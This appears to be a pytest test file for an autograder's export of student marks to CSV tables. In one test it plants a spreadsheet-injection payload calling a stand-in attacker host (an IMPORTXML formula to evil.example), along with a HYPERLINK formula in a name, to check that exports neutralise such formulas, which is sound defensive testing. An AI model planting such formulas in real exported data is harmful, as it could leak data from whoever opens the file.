"""The tables of marks, and what an export says is new since the one before."""

from __future__ import annotations

import csv
import io
import os
import stat

import nbformat
import pytest
from nbgrader.api import Gradebook
from nbgrader.apps.exportapp import ExportApp
from nbgrader.coursedir import CourseDirectory

from autograder.course import CourseError
from autograder.exports import export as module
from autograder.exports.export import CHANGES, LONG, WIDE, LmsFiles, export_assignment
from autograder.exports.filling import Choices
from autograder.exports.plugin import MarksExport
from tests.exports.book import NAME, build, mark


@pytest.fixture
def root(tmp_path):
    build(tmp_path)
    return tmp_path


def export(root, name=NAME):
    lms = LmsFiles(None, None, None, Choices())
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as book:
        return export_assignment(book, CourseDirectory(root=str(root)), name, lms, root / "exports" / name)


def table(path):
    data = path.read_bytes()
    # By its mark, spreadsheets know the encoding.
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


def test_wide_and_long(root):
    answer = '=IMPORTXML("http://evil.example")'
    source = nbformat.v4.new_notebook()
    cell = nbformat.v4.new_markdown_cell(answer, id="a", metadata={"nbgrader": {"grade_id": "q3_why"}})
    source.cells.append(cell)
    path = root / "autograded" / "chika" / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(source, path)

    done = export(root)
    lines = {line["student_id"]: line for line in table(done.folder / WIDE)}
    assert list(lines["ben"]) == [
        *("assignment", "student_id", "last_name", "first_name", "email", "state", "submitted"),
        # In the order of people, q2 before q10.
        *("q2_build", "q3_why", "q10_read", "score", "late_penalty", "total", "max_score"),
    ]
    assert list(lines["ben"].values())[4:] == [
        *("Ben.Oneil@uni.example", "marked", "2026-05-02T08:30:00Z", "4.1", "0.25", "2.2", "6.55", "1", "5.55", "10")
    ]
    assert lines["ben"]["last_name"] == "O'Neil, Jr."
    assert lines["chika"]["state"] == "not marked yet" and lines["chika"]["q3_why"] == ""
    assert lines["chika"]["last_name"].startswith("'=HYPERLINK")
    assert lines["dai"]["state"] == "not submitted" and lines["dai"]["total"] == ""
    assert (lines["eva"]["score"], lines["eva"]["total"], lines["fumi"]["total"]) == ("1", "0", "11")

    questions = {(line["student_id"], line["question"]): line for line in table(done.folder / LONG)}
    assert len(questions) == 5 * 3
    why = questions["ben", "q3_why"]
    assert (why["kind"], why["by_hand"], why["automatic"], why["score"]) == ("by hand", "0.25", "", "0.25")
    assert why["comment"] == '\'-1 for the units, "see" the hint'
    assert questions["chika", "q3_why"]["answer"] == f"'{answer}"
    assert questions["chika", "q3_why"]["state"] == "not marked yet"
    assert questions["fumi", "q3_why"]["extra_credit"] == "1"
    assert {line["answer"] for key, line in questions.items() if key != ("chika", "q3_why")} == {""}


def test_a_second_export_says_what_changed(root):
    assert export(root).changed is None
    second = export(root)
    assert second.changed == () and table(second.folder / CHANGES) == []
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as book:
        mark(book, "chika", 5, 3, 1.5)
        book.add_student("hana")
        book.remove_student("gen")
    third = export(root)
    assert [str(change) for change in third.changed] == [
        "chika: state not marked yet → marked",
        "chika: q3_why – → 1.5",
        "chika: score 8 → 9.5",
        "chika: total 8 → 9.5",
        "hana: state – → not submitted",
        "hana: max_score – → 10",
        "gen: state not submitted → –",
        "gen: max_score 10 → –",
    ]
    assert [line["what"] for line in table(third.folder / CHANGES)][:2] == ["state", "q3_why"]


def test_an_export_that_another_program_saved_is_told(root):
    done = export(root)
    (done.folder / WIDE).write_bytes("学生;点\r\n".encode("cp932"))
    again = export(root)
    assert again.changed is None and "changed by another program" in again.troubles[0]


def test_written_whole_or_not_at_all(root, monkeypatch):
    done = export(root)
    (done.folder / "notes.txt").write_text("mine")
    before = {path.name: path.read_bytes() for path in done.folder.iterdir()}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as book:
        mark(book, "chika", 5, 3, 1.5)

    def full(descriptor):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(module.os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        export(root)
    monkeypatch.undo()
    assert {path.name: path.read_bytes() for path in done.folder.iterdir()} == before
    assert [path.name for path in done.folder.parent.iterdir()] == [NAME]
    assert export(root).changed
    assert (done.folder / "notes.txt").read_text() == "mine"
    # Marks and names are no student's to read.
    assert stat.S_IMODE(os.stat(done.folder).st_mode) == 0o700


def test_another_assignment_of_that_name_is_suggested(root):
    with pytest.raises(CourseError, match=r"the gradebook does not know it. Did you mean 'curves'\?"):
        export(root, "curvs")


def test_the_plugin_of_nbgrader_writes_the_same(root):
    app = ExportApp(coursedir=CourseDirectory(root=str(root)))
    plugin = MarksExport(parent=app, to=str(root / "other"), assignment=[NAME])
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as book:
        plugin.export(book)
    done = export(root)
    assert {path.name for path in (root / "other" / NAME).iterdir()} == {WIDE, LONG}
    assert (root / "other" / NAME / WIDE).read_bytes() == (done.folder / WIDE).read_bytes()
